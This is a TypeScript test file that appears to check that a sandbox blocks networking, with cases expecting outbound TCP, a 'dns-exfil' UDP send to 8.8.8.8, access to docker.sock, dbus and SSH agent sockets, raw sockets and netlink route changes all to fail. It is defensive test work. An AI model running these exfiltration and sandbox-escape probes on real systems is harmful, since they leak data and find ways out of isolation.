/** Network: off means that nothing of this machine or beyond can be reached, and that loopback inside works. */
import { attempt } from '../attempt.ts';
import { harm, neverSays, refused, says } from '../checks.ts';
import type { Case } from '../types.ts';

export const unixConnect = (address: string) =>
  `perl -MSocket -e 'socket S, AF_UNIX, SOCK_STREAM, 0 or die; print connect(S, pack("S a*", 1, ${address})) ? "CONNECTED" : "failed: $!", "\\n"'`;

/** Family, type, protocol. */
const socketOf = (label: string, ...numbers: [number, number, number]) =>
  attempt('socket', numbers.join(', '), { label });

export const network: readonly Case[] = [
  {
    name: 'tcp-internet',
    shell: '(echo > /dev/tcp/1.1.1.1/443) 2>&1; echo rc=$?; (echo > /dev/tcp/2606:4700::1111/443) 2>&1; echo rc6=$?',
    control: { shell: 'echo rc=0; echo rc6=0' },
    verify: [says('rc=1', 'rc6=1', /unreachable/), neverSays(/^rc6?=0/m)],
  },
  {
    name: 'dns-exfil',
    shell:
      'timeout 3 getent hosts secret-data.example.com && echo RESOLVED; perl -MSocket -e \'socket S, AF_INET, SOCK_DGRAM, 0; print send(S, "x", 0, pack_sockaddr_in(53, inet_aton("8.8.8.8"))) ? "SENT" : "refused: $!", "\\n"\'',
    control: { shell: 'echo SENT' },
    verify: [says(/^refused: Network is unreachable/), neverSays(/SENT|RESOLVED/)],
  },
  {
    name: 'localhost-service',
    shell:
      '(exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo CONNECTED) 2>&1; (exec 3<>/dev/tcp/::1/@PORT@ && echo CONNECTED) 2>&1; (exec 3<>/dev/tcp/0.0.0.0/@PORT@ && echo CONNECTED) 2>&1; true',
    control: 'same',
    verify: [says(/Connection refused/), neverSays(/CONNECTED/)],
  },
  {
    name: 'addresses-of-this-machine',
    shell:
      'cat /proc/net/route /proc/net/dev | grep -vE "lo:|Iface|Inter-|face" | sed "s/^/DEVICE /"; cat /proc/net/tcp /proc/net/unix | wc -l | sed "s/^/lines /"; ls /sys/class/net 2>/dev/null | sed "s/^/DEVICE /"; true',
    control: { shell: 'echo DEVICE eth0; echo lines 2' },
    verify: [says(/^lines \d+$/), neverSays(/DEVICE/)],
  },
  {
    name: 'path-unix-socket',
    shell: unixConnect('"@SERVICES@/socket\\0"'),
    control: 'same',
    verify: [says(/^failed: (No such file|Permission|Connection refused)/), neverSays(/CONNECTED/)],
  },
  {
    name: 'socket-in-the-workspace',
    // With nothing of the world in it: it is the user's own, and may live on.
    setup: `env -i perl -MIO::Socket::UNIX -e 'fork and exit; $s = IO::Socket::UNIX->new(Local => "svc", Listen => 1) or die; close STDOUT; alarm 5; $s->accept and open F, ">", "reached"'`,
    shell: unixConnect('"svc\\0"'),
    control: 'same',
    verify: [says(/^failed: /), neverSays(/CONNECTED/)],
  },
  {
    name: 'abstract-unix-socket',
    shell: unixConnect('"\\0@ID@"'),
    control: 'same',
    verify: [says(/^failed: Connection refused/)],
  },
  {
    name: 'docker-sock-dbus',
    shell: `ls -A /run /var/run /run/docker.sock /run/dbus /run/user /run/containerd /run/podman 2>/dev/null | grep -vE "^(/.*:|codex-lsp|)$" | sed "s/^/SEEN /"; ${unixConnect('"/run/dbus/system_bus_socket\\0"')}`,
    control: { shell: 'echo SEEN docker.sock; echo failed: none' },
    verify: [says(/^failed: No such file/), neverSays(/SEEN/)],
  },
  {
    name: 'ssh-agent',
    shell:
      'echo "[$SSH_AUTH_SOCK$GPG_AGENT_INFO$DBUS_SESSION_BUS_ADDRESS$XDG_RUNTIME_DIR$WAYLAND_DISPLAY$DISPLAY]"; [ -S "$SSH_AUTH_SOCK" ] && echo AGENT; true',
    control: 'same',
    verify: [says('[]'), neverSays(/AGENT|socket/)],
  },
  {
    name: 'loopback-inside-ok',
    shell:
      'perl -MIO::Socket::INET -e \'$s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", Listen => 1) or die "no: $!"; if (!fork) { $c = $s->accept; print $c "inside\\n"; exit } $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1:" . $s->sockport) or die; print <$c>; wait\'',
    // The other way round: what has to be there is not.
    control: { shell: 'echo no loopback' },
    verify: [({ outputs }) => (/^inside$/m.test(outputs.join('')) ? undefined : harm('loopback does not work inside'))],
  },
  {
    name: 'raw-packet-vsock-alg-sockets',
    shell: [
      socketOf('raw', 2, 3, 1),
      socketOf('raw6', 10, 3, 58),
      socketOf('packet', 17, 3, 768),
      socketOf('vsock', 40, 1, 0),
      socketOf('alg', 38, 5, 0),
      socketOf('bluetooth', 31, 3, 1),
      socketOf('can', 29, 3, 1),
      socketOf('xdp', 44, 3, 0),
      socketOf('tipc', 30, 5, 0),
    ].join('\n'),
    control: { shell: 'for s in raw raw6 packet vsock alg bluetooth can xdp tipc; do echo $s 3 0; done' },
    verify: [refused('raw', 'raw6', 'packet', 'vsock', 'alg', 'bluetooth', 'can', 'xdp', 'tipc')],
  },
  {
    name: 'netlink-changes-nothing',
    shell: `${attempt('socket', '16, 3, 0')}; (ip link add dummy0 type dummy 2>&1; ip route add default dev lo 2>&1 || echo no); perl -e 'socket(S, 16, 3, 12) or print "netfilter refused\\n"; print syswrite(S, pack("L S S L L C S S", 20, 0xa00, 5, 1, 0, 0, 0, 0)) ? "tried\\n" : "refused\\n"; sysread(S, $b, 4096); print "answer ", (unpack "x16 l", $b), "\\n"'`,
    control: { shell: 'echo answer 0; echo socket 3 0' },
    // It may be opened, as `getaddrinfo` does; it answers with an error.
    verify: [says(/^socket /, /^answer -[1-9]/), neverSays(/^answer [0-9]/m)],
  },
];
